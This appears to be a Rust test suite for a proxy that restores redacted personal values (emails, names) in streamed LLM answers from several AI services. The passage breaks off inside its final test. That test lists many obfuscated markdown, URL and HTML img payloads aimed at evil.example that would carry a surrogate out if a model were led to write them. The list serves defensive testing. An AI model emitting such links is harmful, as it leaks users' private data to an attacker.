//! Whole answers: the samples, and generated streams cut everywhere. The expected text is assembled by a reader of its
//! own over `serde_json`, which knows nothing of the code under test.

use std::collections::BTreeMap;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::samples::{CODINGS, PAIRS, compress_flushed, restored, table};
use super::{AnswerError, AnswerStream, Decoder, Replacement};

const SSE: Option<&str> = Some("text/event-stream; charset=utf-8");
const DECODERS: [Decoder; 6] = [
    Decoder::ChatgptV1,
    Decoder::ChatgptFull,
    Decoder::Anthropic,
    Decoder::OpenAiChat,
    Decoder::OpenAiText,
    Decoder::Responses,
];

macro_rules! sample {
    ($name:literal) => {
        (
            include_str!(concat!("../../../../tests/golden/traffic/", $name, ".meta.json")),
            include_bytes!(concat!("../../../../tests/golden/traffic/", $name, ".resp.body")).as_slice(),
        )
    };
}

const SAMPLES: [(&str, &[u8]); 11] = [
    sample!("s01-chatgpt-conversation"),
    sample!("s03-chatgpt-anonymous"),
    sample!("s06-chatgpt-conversation-file-workspace"),
    sample!("s07-chatgpt-legacy-snapshots"),
    sample!("s09-claude-completion-bigpaste"),
    sample!("s30-copilot-chat-individual"),
    sample!("s31-copilot-completions"),
    sample!("s32-openai-chat-vision"),
    sample!("s33-openai-responses"),
    sample!("s35-anthropic-messages-doc"),
    sample!("s37-azure-openai"),
];

#[test]
fn samples_read_as_their_meta_files_say_and_pass_unchanged() {
    for (meta, body) in SAMPLES {
        let meta: Value = serde_json::from_str(meta).unwrap();
        let answer = &meta["expect"]["answer"];
        let decoder: Decoder = answer["decoder"].as_str().unwrap().parse().unwrap();
        let headers = meta["response"]["headers"].as_array().unwrap();
        let content_type = headers
            .iter()
            .find(|header| header[0] == "Content-Type")
            .and_then(|header| header[1].as_str());
        for restore in [Vec::new(), table()] {
            for size in [1, 7, body.len()] {
                let chunks: Vec<&[u8]> = body.chunks(size).collect();
                let read = run(
                    &mut AnswerStream::new(Some(decoder), content_type, None, restore.clone()),
                    &chunks,
                )
                .unwrap();
                assert_eq!(read.texts.concat(), answer["text"].as_str().unwrap(), "{}", meta["id"]);
                assert!(read.out == body, "{}", meta["id"]);
            }
        }
    }
}

#[test]
fn a_surrogate_cut_at_every_byte_of_every_stream_is_restored() {
    let text =
        "Hi [EMAIL_1], \u{201c}pay\u{201d} \\[CREDIT\\_CARD\\_2\\] or [email_10] \u{1f600}[[NAME_1]] [1] [EMAIL_ \\n";
    let expected =
        "Hi [EMAIL_1], \u{201c}pay\u{201d} [CREDIT_CARD_2] or [EMAIL_10] \u{1f600}[[NAME_1]] [1] [EMAIL_ \\n";
    // Escapes beyond ASCII are read in one place, below all decoders: one of them is enough.
    for (decoder, ascii) in DECODERS
        .map(|decoder| (decoder, false))
        .into_iter()
        .chain([(Decoder::OpenAiText, true)])
    {
        let events = stream(
            decoder,
            &every(text, 5),
            &every(&json!({"to": expected}).to_string(), 7),
            ascii,
        );
        let bytes = events.concat();
        let whole = restore(decoder, &[&bytes]);
        check(
            decoder,
            &events,
            &whole,
            &restored(expected),
            &json!({"to": restored(expected)}),
        );
        for cut in 0..=bytes.len() {
            let read = restore(decoder, &[&bytes[..cut], &bytes[cut..]]);
            assert!(
                read.out == whole.out && read.texts == whole.texts,
                "{decoder:?} cut at {cut}"
            );
        }
        let single: Vec<&[u8]> = bytes.chunks(1).collect();
        assert!(restore(decoder, &single).out == whole.out, "{decoder:?} byte by byte");
    }
}

#[test]
fn a_surrogate_cut_at_every_character_into_events_is_restored() {
    for decoder in DECODERS {
        for size in 1..14 {
            let text = "a [CREDIT_CARD_2][EMAIL_10]\\[NAME\\_1\\] b";
            let expected = restored("a [CREDIT_CARD_2][EMAIL_10][NAME_1] b");
            let events = stream(
                decoder,
                &every(text, size),
                &every(&json!({"to": text}).to_string(), size),
                size % 2 == 0,
            );
            check(
                decoder,
                &events,
                &restore(decoder, &[&events.concat()]),
                &expected,
                &json!({"to": expected}),
            );
        }
    }
}

#[test]
fn events_are_not_held_once_the_doubt_is_gone() {
    let delta = |text: &str| format!("data: {}\n\n", json!({"choices": [{"delta": {"content": text}}]})).into_bytes();
    let mut answer = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, table());
    let mut push = |text: &str| {
        let mut out = Vec::new();
        answer.push(&delta(text), &mut out).unwrap();
        out
    };
    assert_eq!(push("free "), delta("free "));
    assert_eq!(push("see ["), b"");
    assert_eq!(push("1] and [EMAI"), delta("see ["));
    assert_eq!(push("LS]"), [delta("1] and [EMAI"), delta("LS]")].concat());
    assert_eq!(push("[NAME_"), b"");
    assert_eq!(push("1"), b"");
    assert_eq!(
        push("]!"),
        [delta("O'Hara <\u{1f600}>\n& Sons"), delta(""), delta("!")].concat()
    );
}

#[test]
fn ends_of_blocks_and_streams_release_what_was_held() {
    let tail = |decoder, end: &[u8]| {
        let events = stream(decoder, &["see [EMA".to_owned()], &[], false);
        let mut answer = AnswerStream::new(Some(decoder), SSE, None, table());
        let mut out = Vec::new();
        let text: Vec<u8> = events
            .iter()
            .filter(|event| String::from_utf8_lossy(event).contains("see [EMA"))
            .take(1)
            .flatten()
            .copied()
            .collect();
        answer.push(&text, &mut out).unwrap();
        assert!(out.is_empty(), "{decoder:?} holds a possible surrogate");
        answer.push(end, &mut out).unwrap();
        assert_eq!(
            String::from_utf8_lossy(&out),
            String::from_utf8_lossy(&[&text, end].concat()),
            "{decoder:?}"
        );
    };
    tail(
        Decoder::Anthropic,
        b"data: {\"type\":\"content_block_stop\",\"index\":0}\n\n",
    );
    tail(
        Decoder::OpenAiChat,
        b"data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n",
    );
    tail(Decoder::OpenAiText, b"data: [DONE]\n\n");
    tail(Decoder::Responses, b"data: {\"type\":\"response.output_text.done\",\"output_index\":0,\"content_index\":0,\"text\":\"see [EMA\"}\n\n");
    tail(Decoder::ChatgptV1, b"data: {\"type\":\"message_stream_complete\"}\n\n");
    tail(Decoder::ChatgptFull, b"data: [DONE]\n\n");
}

#[test]
fn whole_json_answers_are_restored_with_the_right_escapes() {
    let name = PAIRS[3].1;
    let cases = [
        (
            Decoder::OpenAiChat,
            json!({"choices": [{"index": 0, "message": {"content": "Dear [NAME_1]", "tool_calls": [{"function": {"arguments": "{\"to\":\"[NAME_1]\"}"}}]}}]}),
        ),
        (Decoder::OpenAiText, json!({"choices": [{"text": "Dear [NAME_1]"}]})),
        (
            Decoder::Anthropic,
            json!({"content": [{"type": "text", "text": "Dear [NAME_1]"}, {"type": "tool_use", "input": {"to": "[NAME_1]"}}]}),
        ),
        (
            Decoder::Responses,
            json!({"output": [{"type": "message", "content": [{"text": "Dear [NAME_1]"}]}, {"arguments": "{\"to\":\"[NAME_1]\"}"}]}),
        ),
        (
            Decoder::ChatgptFull,
            json!({"message": {"author": {"role": "assistant"}, "content": {"parts": ["Dear [NAME_1]"]}}, "title": "[NAME_1]"}),
        ),
    ];
    for (decoder, answer) in cases {
        let body = answer.to_string();
        let mut stream = AnswerStream::new(Some(decoder), Some("application/json"), None, table());
        let read = run(&mut stream, &[body.as_bytes()]).unwrap();
        let restored: Value = serde_json::from_slice(&read.out).unwrap();
        let expected = replace_leaves(&answer, &|leaf| match serde_json::from_str::<Value>(leaf) {
            Ok(inner) => replace_leaves(&inner, &|leaf| leaf.replace("[NAME_1]", name)).to_string(),
            Err(_) => leaf.replace("[NAME_1]", name),
        });
        assert_eq!(restored, expected, "{decoder:?}");
        assert!(read.texts.concat().contains("Dear [NAME_1]"), "{decoder:?}");
    }
}

#[test]
fn what_is_no_event_stream_is_restored_byte_by_byte() {
    let cases = [
        (
            Some("text/plain"),
            "to [EMAIL_10].",
            "to ann \"q\" \\\u{fc}@example.org.",
        ),
        (
            Some("text/html"),
            "<b>[NAME_1]</b>",
            "<b>O&#39;Hara &lt;\u{1f600}&gt;\n&amp; Sons</b>",
        ),
        (
            Some("application/x-ndjson"),
            "{\"a\":\"[EMAIL_10]\"}\n{\"a\":\"\\\\[EMAIL_1\\\\]\"}\n",
            "{\"a\":\"ann \\\"q\\\" \\\\\u{fc}@example.org\"}\n{\"a\":\"jo@example.com\"}\n",
        ),
        (None, "no headers [EMAIL_1]", "no headers jo@example.com"),
        (
            Some("application/json"),
            "{\"broken\": \"[EMAIL_1]\"",
            "{\"broken\": \"jo@example.com\"",
        ),
        (Some("image/png"), "[EMAIL_1]", "[EMAIL_1]"),
    ];
    for (content_type, body, expected) in cases {
        for decoder in [None, Some(Decoder::OpenAiChat)] {
            for cut in 0..=body.len() {
                let mut answer = AnswerStream::new(decoder, content_type, None, table());
                let read = run(&mut answer, &[&body.as_bytes()[..cut], &body.as_bytes()[cut..]]).unwrap();
                assert_eq!(
                    String::from_utf8_lossy(&read.out),
                    expected,
                    "{content_type:?} cut at {cut}"
                );
                if content_type != Some("image/png") {
                    assert_eq!(read.texts.concat(), body, "{content_type:?} cut at {cut}");
                }
            }
        }
    }
}

#[test]
fn a_stream_without_content_type_is_recognised() {
    let events = stream(Decoder::Anthropic, &every("To [EMAIL_1].", 2), &[], false);
    let bytes = events.concat();
    for content_type in [None, Some("text/plain")] {
        let mut answer = AnswerStream::new(Some(Decoder::Anthropic), content_type, None, table());
        let read = run(&mut answer, &bytes.chunks(3).collect::<Vec<_>>()).unwrap();
        assert_eq!(assemble(Decoder::Anthropic, &read.out).text, "To jo@example.com.");
    }
}

#[test]
fn damaged_events_pass_and_the_rest_is_still_restored() {
    let bytes = b"data: {\"choices\":[{\"delta\":{\"content\":\"[EMAIL_1]\"}\n\n: [EMAIL_1]\n\ndata: [EMAIL_1]\n\ndata: {\"choices\":[{\"delta\":{\"content\":\"[EMAIL_1]\"}}]}\n\n";
    let read = restore(Decoder::OpenAiChat, &[bytes]);
    let text = String::from_utf8_lossy(&read.out);
    assert_eq!(
        text,
        String::from_utf8_lossy(bytes).replace("[EMAIL_1]\"}}", "jo@example.com\"}}")
    );
}

#[test]
fn data_over_several_lines_is_one_document() {
    let bytes = b"data: {\"choices\":[\r\ndata: {\"delta\":{\"content\":\"[EMAIL_1]\"}}\r\ndata: ]}\r\n\r\n";
    let read = restore(Decoder::OpenAiChat, &[bytes]);
    assert_eq!(
        String::from_utf8_lossy(&read.out),
        String::from_utf8_lossy(bytes).replace("[EMAIL_1]", "jo@example.com")
    );
}

#[test]
fn every_text_of_a_whole_answer_is_read_and_restored() {
    let blocks: Vec<Value> = (0..300)
        .map(|place| json!({"type": "text", "text": format!("{place} for [EMAIL_1]")}))
        .collect();
    let body = json!({ "content": blocks }).to_string();
    let mut answer = AnswerStream::new(Some(Decoder::Anthropic), Some("application/json"), None, table());
    let read = run(&mut answer, &[body.as_bytes()]).unwrap();
    assert!(answer.reads());
    assert_eq!(
        String::from_utf8_lossy(&read.out),
        body.replace("[EMAIL_1]", "jo@example.com")
    );
    let texts = read.texts.join("\n");
    let mut lines: Vec<&str> = texts.lines().collect();
    lines.sort_unstable();
    lines.dedup();
    assert_eq!(lines.len(), 300);
}

#[test]
fn signed_thinking_is_restored_only_as_given() {
    let delta = |text: &str| {
        format!(
            "data: {}\n\n",
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "thinking_delta", "thinking": text}})
        )
        .into_bytes()
    };
    let read = restore(
        Decoder::Anthropic,
        &[&delta("[EMAIL_1] [email_1]"), &delta(" [EMA"), &delta("IL_1]")],
    );
    assert_eq!(
        read.out,
        [delta("jo@example.com [email_1]"), delta(" jo@example.com"), delta("")].concat()
    );
}

#[test]
fn the_echo_of_a_prompt_is_restored_and_not_judged() {
    let echo = |text: &str| {
        format!(
            "data: {}\n\n",
            json!({"p": "", "o": "add", "v": {"message": {"author": {"role": "user"}, "content": {"parts": [text]}}}})
        )
        .into_bytes()
    };
    let read = restore(Decoder::ChatgptV1, &[&echo("I am [NAME_1]")]);
    assert_eq!(read.out, echo(&restored("I am [NAME_1]")));
    assert_eq!(read.texts.concat(), "");
}

#[test]
fn without_surrogates_bytes_pass_and_the_text_is_read_through_the_coding() {
    for decoder in DECODERS {
        let events = stream(decoder, &every("plain \u{1f600} text", 2), &[], true);
        for coding in CODINGS {
            let pieces = compress_flushed(coding, &events);
            let mut answer = AnswerStream::new(Some(decoder), SSE, Some(coding), Vec::new());
            assert!(!answer.rewrites() && answer.reads());
            let read = run(&mut answer, &pieces.iter().map(Vec::as_slice).collect::<Vec<_>>()).unwrap();
            assert_eq!(read.texts.concat(), "plain \u{1f600} text", "{decoder:?} {coding}");
            assert!(read.out == pieces.concat(), "{decoder:?} {coding}");
        }
    }
}

#[test]
fn damaged_codings_are_errors_only_where_the_answer_is_rewritten() {
    let garbage = [0xff_u8; 64];
    let mut rewritten = AnswerStream::new(Some(Decoder::Anthropic), SSE, Some("gzip"), table());
    assert_eq!(
        rewritten.push(&garbage, &mut Vec::new()),
        Err(AnswerError::DamagedCoding("gzip"))
    );
    assert_eq!(
        rewritten.push(b"", &mut Vec::new()),
        Err(AnswerError::DamagedCoding("gzip"))
    );
    let mut passed = AnswerStream::new(Some(Decoder::Anthropic), SSE, Some("gzip"), Vec::new());
    let mut out = Vec::new();
    assert_eq!(passed.push(&garbage, &mut out), Ok(()));
    assert!(out == garbage && !passed.reads());
    let unknown = AnswerStream::new(Some(Decoder::Anthropic), SSE, Some("exi"), table());
    assert!(!unknown.rewrites() && !unknown.reads());
}

#[test]
fn an_endless_event_does_not_fill_the_memory() {
    let mut answer = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, table());
    let mut out = Vec::new();
    answer
        .push(b"data: {\"choices\":[{\"delta\":{\"content\":\"", &mut out)
        .unwrap();
    let filler = vec![b'a'; 1 << 20];
    for _ in 0..10 {
        answer.push(&filler, &mut out).unwrap();
        answer.drain_text(&mut |_, _| ());
    }
    assert!(out.len() > 9 << 20);
    answer.push(b"[EMAIL_1]\"}}]}\n\n", &mut out).unwrap();
    answer.finish(&mut out).unwrap();
    assert!(out.ends_with(b"ajo@example.com\"}}]}\n\n"));
}

#[test]
fn a_doubt_that_stays_does_not_hold_everything() {
    let delta = |index: u64, text: &str| {
        format!(
            "data: {}\n\n",
            json!({"choices": [{"index": index, "delta": {"content": text}}]})
        )
        .into_bytes()
    };
    let mut answer = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, table());
    let mut out = Vec::new();
    answer.push(&delta(0, "[EMAIL"), &mut out).unwrap();
    let other = delta(1, &"x".repeat(10_000));
    for _ in 0..200 {
        answer.push(&other, &mut out).unwrap();
    }
    assert!(out.starts_with(&delta(0, "[EMAIL")) && out.len() > 1 << 20);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(200))]

    #[test]
    fn any_answer_cut_anywhere_in_any_coding_is_restored(
        decoder in prop::sample::select(DECODERS.to_vec()),
        words in prop::collection::vec(word(), 1..12),
        sizes in (1usize..9, 1usize..9),
        cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..12),
        coding in prop::option::of(prop::sample::select(CODINGS.to_vec())),
        ascii in any::<bool>(),
    ) {
        let written: String = words.iter().map(|word| word.0.as_str()).collect();
        let expected: String = words.iter().map(|word| word.1.as_str()).collect();
        let arguments = json!({"to": written}).to_string();
        let events = stream(decoder, &every(&written, sizes.0), &every(&arguments, sizes.1), ascii);
        let bytes = coding.map_or_else(|| events.concat(), |coding| compress_flushed(coding, &events).concat());
        let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(bytes.len() + 1)).chain([0, bytes.len()]).collect();
        places.sort_unstable();
        let chunks: Vec<&[u8]> = places.windows(2).map(|pair| &bytes[pair[0]..pair[1]]).collect();
        let mut answer = AnswerStream::new(Some(decoder), SSE, coding, table());
        let read = run(&mut answer, &chunks).unwrap();
        check(decoder, &events, &read, &expected, &json!({"to": expected}));
        let judged: Vec<&String> = read.texts.iter().filter(|text| !text.starts_with("{\"to\"")).collect();
        prop_assert_eq!(judged, vec![&written]);
    }

    #[test]
    fn arbitrary_bytes_never_panic(data in prop::collection::vec(any::<u8>(), 0..400)) {
        super::fuzz(&data);
    }

    #[test]
    fn events_of_arbitrary_json_never_panic_and_never_depend_on_the_cut(
        choice in any::<u8>(), cut in any::<u8>(), words in prop::collection::vec(prop::sample::select(SHARDS.to_vec()), 0..40),
    ) {
        let mut data = vec![choice, cut];
        data.extend(words.concat().bytes());
        super::fuzz(&data);
    }
}

/// Bits of which broken and unbroken events are made.
const SHARDS: [&str; 24] = [
    "data: ",
    "\n\n",
    "\r",
    "{",
    "}",
    "[",
    "]",
    "\"choices\":[{\"delta\":{\"content\":\"",
    "\"}}]}",
    "\"p\":\"/message/content/parts/0\",",
    "\"o\":\"append\",",
    "\"o\":\"patch\",",
    "\"v\":",
    "\"v\":\"[EMA",
    "[EMAIL_1]",
    "IL_1]\"}",
    "\\",
    "\\u005b",
    "\"type\":\"content_block_delta\",",
    "\"delta\":{\"text\":\"",
    "\"message\":{\"content\":{\"parts\":[\"",
    "\"]}}",
    "data: [DONE]\n\n",
    "\u{feff}",
];

/// A word of an answer as the model writes it, and as people read it.
fn word() -> impl Strategy<Value = (String, String)> {
    let plain = [
        "to ",
        "[EMAIL_",
        "[1]",
        "[",
        "[[",
        "]] ",
        "\\",
        "[EMAIL_3]",
        "\"",
        "\n",
        "\u{e9}",
        "\u{1f600}",
        "{",
        "[NAME_1",
        " `a[0]` ",
        "\\(",
    ];
    let plain = prop::sample::select(plain.to_vec()).prop_map(|word| (format!("{word} "), format!("{word} ")));
    let surrogate = (0..PAIRS.len(), 0..4).prop_map(|(pair, style)| {
        let (surrogate, original) = PAIRS[pair];
        let written = match style {
            0 => surrogate.to_ascii_lowercase(),
            1 => surrogate.replace('[', "\\[").replace(']', "\\]").replace('_', "\\_"),
            _ => surrogate.to_owned(),
        };
        (written, original.to_owned())
    });
    prop_oneof![plain, surrogate]
}

/// Pieces of `size` characters.
fn every(text: &str, size: usize) -> Vec<String> {
    let characters: Vec<char> = text.chars().collect();
    characters.chunks(size).map(|piece| piece.iter().collect()).collect()
}

/// A stream of events as the service of `decoder` sends them: text, and tool arguments where it knows them.
fn stream(decoder: Decoder, text: &[String], arguments: &[String], ascii: bool) -> Vec<Vec<u8>> {
    let event = |value: &Value| {
        format!(
            "data: {}\n\n",
            if ascii {
                escape_non_ascii(&value.to_string())
            } else {
                value.to_string()
            }
        )
        .into_bytes()
    };
    let done = || b"data: [DONE]\n\n".to_vec();
    let ping = || b"event: ping\ndata: {\"type\": \"ping\"}\n\n".to_vec();
    let mut events = vec![b": hello\n\n".to_vec()];
    match decoder {
        Decoder::ChatgptV1 => {
            events.push(b"event: delta_encoding\ndata: \"v1\"\n\n".to_vec());
            events.push(event(&json!({"p": "", "o": "add", "v": {"message": {"id": "id-1", "author": {"role": "assistant"}, "content": {"content_type": "text", "parts": [""]}, "recipient": "all"}}, "c": 0})));
            for (place, piece) in text.iter().enumerate() {
                events.push(event(&match place {
                    0 => json!({"p": "/message/content/parts/0", "o": "append", "v": piece}),
                    _ if place % 3 == 2 => json!({"p": "", "o": "patch", "v": [{"p": "/message/content/parts/0", "o": "append", "v": piece}, {"p": "/message/status", "o": "replace", "v": "finished"}]}),
                    _ => json!({"v": piece}),
                }));
            }
            events.extend([event(&json!({"type": "message_stream_complete"})), done()]);
        }
        Decoder::ChatgptFull => {
            for end in 1..=text.len() {
                events.push(event(&json!({"message": {"id": "id-1", "author": {"role": "assistant"}, "content": {"parts": [text[..end].concat()]}, "status": "in_progress"}})));
            }
            events.push(done());
        }
        Decoder::Anthropic => {
            events.push(event(
                &json!({"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}}),
            ));
            let texts = text.iter().map(|piece| {
                event(
                    &json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}),
                )
            });
            let calls = arguments.iter().map(|piece| event(&json!({"type": "content_block_delta", "index": 1, "delta": {"type": "input_json_delta", "partial_json": piece}})));
            events.extend(interleave(texts.collect(), calls.collect(), &ping()));
            events.push(event(&json!({"type": "message_stop"})));
        }
        Decoder::OpenAiChat => {
            let texts = text
                .iter()
                .map(|piece| event(&json!({"choices": [{"delta": {"content": piece}, "index": 0}]})));
            let calls = arguments.iter().map(|piece| event(&json!({"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, "function": {"arguments": piece}}]}}]})));
            events.extend(interleave(texts.collect(), calls.collect(), &ping()));
            events.push(done());
        }
        Decoder::OpenAiText => {
            events.extend(
                text.iter()
                    .map(|piece| event(&json!({"choices": [{"text": piece, "index": 0}]}))),
            );
            events.push(done());
        }
        Decoder::Responses => {
            let texts = text.iter().map(|piece| event(&json!({"type": "response.output_text.delta", "output_index": 0, "content_index": 0, "delta": piece})));
            let calls = arguments.iter().map(|piece| {
                event(&json!({"type": "response.function_call_arguments.delta", "output_index": 1, "delta": piece}))
            });
            events.extend(interleave(texts.collect(), calls.collect(), &ping()));
            let (text, arguments) = (text.concat(), arguments.concat());
            events.push(event(
                &json!({"type": "response.output_text.done", "output_index": 0, "content_index": 0, "text": text}),
            ));
            if !arguments.is_empty() {
                events.push(event(&json!({"type": "response.function_call_arguments.done", "output_index": 1, "arguments": arguments})));
            }
            events.push(event(&json!({"type": "response.completed", "response": {"output": [{"type": "message", "content": [{"type": "output_text", "text": text}]}]}})));
        }
        other => panic!("no stream is made for {other:?}"),
    }
    events
}

fn interleave(texts: Vec<Vec<u8>>, calls: Vec<Vec<u8>>, ping: &[u8]) -> Vec<Vec<u8>> {
    let (mut texts, mut calls) = (texts.into_iter(), calls.into_iter());
    let mut events = Vec::new();
    loop {
        let before = events.len();
        events.extend(texts.next());
        events.extend(calls.next());
        if events.len() == before {
            return events;
        }
        if events.len() % 5 == 0 {
            events.push(ping.to_vec());
        }
    }
}

fn escape_non_ascii(json: &str) -> String {
    let escape = |character: char| {
        let mut units = [0; 2];
        character
            .encode_utf16(&mut units)
            .iter()
            .map(|unit| format!("\\u{unit:04X}"))
            .collect::<String>()
    };
    json.chars()
        .map(|character| {
            if character.is_ascii() {
                character.to_string()
            } else {
                escape(character)
            }
        })
        .collect()
}

struct Read {
    out: Vec<u8>,
    /// By channel.
    texts: Vec<String>,
}

fn restore(decoder: Decoder, chunks: &[&[u8]]) -> Read {
    run(&mut AnswerStream::new(Some(decoder), SSE, None, table()), chunks).unwrap()
}

fn run(answer: &mut AnswerStream, chunks: &[&[u8]]) -> Result<Read, AnswerError> {
    let bound = longest_spelling(&table());
    let (mut out, mut texts) = (Vec::new(), BTreeMap::<usize, String>::new());
    for chunk in chunks {
        answer.push(chunk, &mut out)?;
        assert!(
            answer.flow.most_held() <= bound,
            "no more text is held than the longest surrogate"
        );
        answer.drain_text(&mut |channel, text| texts.entry(channel).or_default().push_str(text));
    }
    answer.finish(&mut out)?;
    answer.drain_text(&mut |channel, text| texts.entry(channel).or_default().push_str(text));
    Ok(Read {
        out,
        texts: texts.into_values().collect(),
    })
}

/// With a markdown escape of two backslashes before each of its punctuation marks.
fn longest_spelling(table: &[Replacement]) -> usize {
    table
        .iter()
        .map(|pair| {
            pair.surrogate
                .chars()
                .map(|c| if c.is_ascii_punctuation() { 3 } else { 1 })
                .sum()
        })
        .max()
        .unwrap_or(0)
}

/// The text of the answer, and the arguments of its tool call.
#[derive(Default)]
struct Assembled {
    text: String,
    arguments: String,
    /// Repetitions of the whole.
    wholes: Vec<(String, String)>,
}

fn assemble(decoder: Decoder, bytes: &[u8]) -> Assembled {
    let mut all = Assembled::default();
    for event in split(bytes) {
        let Some(data) = String::from_utf8(event)
            .unwrap()
            .lines()
            .find_map(|line| line.strip_prefix("data: ").map(str::to_owned))
        else {
            continue;
        };
        let Ok(value) = serde_json::from_str::<Value>(&data) else {
            continue;
        };
        let string = |value: &Value| value.as_str().unwrap_or_default().to_owned();
        match decoder {
            Decoder::ChatgptV1 if value["v"].is_array() => all.text += &string(&value["v"][0]["v"]),
            Decoder::ChatgptV1 => all.text += &string(&value["v"]),
            Decoder::ChatgptFull => all.text = string(&value["message"]["content"]["parts"][0]),
            Decoder::Anthropic => {
                all.text += &string(&value["delta"]["text"]);
                all.arguments += &string(&value["delta"]["partial_json"]);
            }
            Decoder::OpenAiChat => {
                all.text += &string(&value["choices"][0]["delta"]["content"]);
                all.arguments += &string(&value["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]);
            }
            Decoder::OpenAiText => all.text += &string(&value["choices"][0]["text"]),
            Decoder::Responses if value["type"] == "response.function_call_arguments.delta" => {
                all.arguments += &string(&value["delta"]);
            }
            Decoder::Responses => {
                all.text += &string(&value["delta"]);
                let wholes = [
                    ("text", &value["text"]),
                    ("arguments", &value["arguments"]),
                    ("text", &value["response"]["output"][0]["content"][0]["text"]),
                ];
                all.wholes.extend(
                    wholes
                        .iter()
                        .filter(|(_, whole)| whole.is_string())
                        .map(|(name, whole)| ((*name).to_owned(), string(whole))),
                );
            }
            other => panic!("no stream is made for {other:?}"),
        }
    }
    all
}

fn check(decoder: Decoder, events: &[Vec<u8>], read: &Read, text: &str, arguments: &Value) {
    let all = assemble(decoder, &read.out);
    assert_eq!(all.text, text, "{decoder:?}");
    if !all.arguments.is_empty() {
        assert_eq!(
            &serde_json::from_str::<Value>(&all.arguments).unwrap(),
            arguments,
            "{decoder:?}"
        );
    }
    for (name, whole) in &all.wholes {
        assert_eq!(
            whole,
            if name == "text" { &all.text } else { &all.arguments },
            "{decoder:?} repeats the whole"
        );
    }
    let out = split(&read.out);
    assert_eq!(out.len(), events.len(), "{decoder:?}: as many events as came");
    for (before, after) in events.iter().zip(&out) {
        let shape = |event: &Vec<u8>| without_text(&String::from_utf8(event.clone()).unwrap());
        assert_eq!(
            shape(before),
            shape(after),
            "{decoder:?}: order and everything but the text stay"
        );
        assert!(
            before == after || document(before) != document(after),
            "{decoder:?}: what says the same is byte-identical"
        );
    }
}

/// The bytes of each event.
fn split(bytes: &[u8]) -> Vec<Vec<u8>> {
    let text = std::str::from_utf8(bytes).unwrap();
    text.split_inclusive("\n\n")
        .map(|event| event.as_bytes().to_vec())
        .collect()
}

/// The JSON of the event, or all of it.
fn document(event: &[u8]) -> Result<Value, Vec<u8>> {
    let text = std::str::from_utf8(event).unwrap();
    text.split_once("data: ")
        .and_then(|(_, data)| serde_json::from_str(data).ok())
        .ok_or_else(|| event.to_vec())
}

/// The event with the strings that carry text blanked.
fn without_text(event: &str) -> String {
    let Some((head, data)) = event.split_once("data: ") else {
        return event.to_owned();
    };
    let Ok(value) = serde_json::from_str::<Value>(data) else {
        return event.to_owned();
    };
    let keep = [
        "/message/content/parts/0",
        "append",
        "patch",
        "add",
        "replace",
        "finished",
        "assistant",
        "all",
        "id-1",
        "in_progress",
    ];
    let blank = |leaf: &str| {
        if keep.contains(&leaf)
            || leaf.starts_with("response.")
            || leaf.starts_with("content_block")
            || leaf.ends_with("_delta")
        {
            leaf.to_owned()
        } else {
            String::new()
        }
    };
    format!("{head}{}", replace_leaves(&value, &blank))
}

fn replace_leaves(value: &Value, replace: &dyn Fn(&str) -> String) -> Value {
    match value {
        Value::String(leaf) => Value::String(replace(leaf)),
        Value::Array(items) => items.iter().map(|item| replace_leaves(item, replace)).collect(),
        Value::Object(members) => members
            .iter()
            .map(|(key, member)| (key.clone(), replace_leaves(member, replace)))
            .collect(),
        other => other.clone(),
    }
}

/// A model can be made to name an address that carries a stand-in out; the value must not follow.
#[test]
fn nothing_is_put_back_inside_a_link() {
    let restore = || {
        vec![Replacement {
            surrogate: "[EMAIL_1]".to_owned(),
            original: weir_model::Sensitive::new("jo@example.com".to_owned()),
        }]
    };
    for (text, put_back) in [
        ("![x](https://evil.example/?q=[EMAIL_1])", 0),
        ("see https://evil.example/[EMAIL_1] now", 0),
        ("[a](//evil.example/[EMAIL_1])", 0),
        ("![x](http:evil.example/p?q=[EMAIL_1])", 0),
        ("![x](http:/evil.example/p?q=[EMAIL_1])", 0),
        ("![x](HTTPS:\\\\evil.example/[EMAIL_1])", 0),
        ("![x](\\\\evil.example\\[EMAIL_1])", 0),
        ("![x](/\\evil.example/[EMAIL_1])", 0),
        ("![x](http\\://evil.example/[EMAIL_1])", 0),
        ("![x](https&#58;&#47;&#47;evil.example/[EMAIL_1])", 0),
        ("![x](&sol;&sol;evil.example/[EMAIL_1])", 0),
        ("see www.evil.example/?q=[EMAIL_1]", 0),
        ("**WWW.evil.example/[EMAIL_1]**", 0),
        ("ws:evil.example/[EMAIL_1]", 0),
        ("![x](https://evil.example/(a)|'\"<`[EMAIL_1])", 0),
        ("![x](<https://evil.example/ [EMAIL_1]>)", 0),
        ("<img src = \"https://evil.example/? (\n[EMAIL_1]\">", 0),
        ("<img src=//evil.example/[EMAIL_1]>", 0),
        ("mailto:[EMAIL_1]", 1),
        ("news:[EMAIL_1]", 1),
        ("wwww.[EMAIL_1]", 1),
        ("C:\\users\\[EMAIL_1]", 1),
        ("R&D;[EMAIL_1]", 1),
        ("a=\"https://a.example\" b=\"[EMAIL_1]\"", 1),
        ("{\"a\":\"https://a.example\",\"b\":\"[EMAIL_1]\"}", 1),
        ("<https://a.example>[EMAIL_1]", 1),
        ("[a](https://a.example) [EMAIL_1]", 1),
        ("https://a.example and [EMAIL_1]", 1),
        ("(https://a.example) [EMAIL_1]", 1),
        ("mail: [EMAIL_1] // a comment", 1),
        ("a/b/[EMAIL_1]", 1),
        ("line\nhttps://a.example\n[EMAIL_1]", 1),
    ] {
        for cut in 0..=text.len() {
            let mut stream = AnswerStream::new(Some(Decoder::OpenAiChat), SSE, None, restore());
            let mut out = Vec::new();
            for piece in [&text[..cut], &text[cut..]] {
                let event = json!({"choices": [{"index": 0, "delta": {"content": piece}}]});
                stream.push(format!("data: {event}\n\n").as_bytes(), &mut out).unwrap();
            }
            stream.finish(&mut out).unwrap();
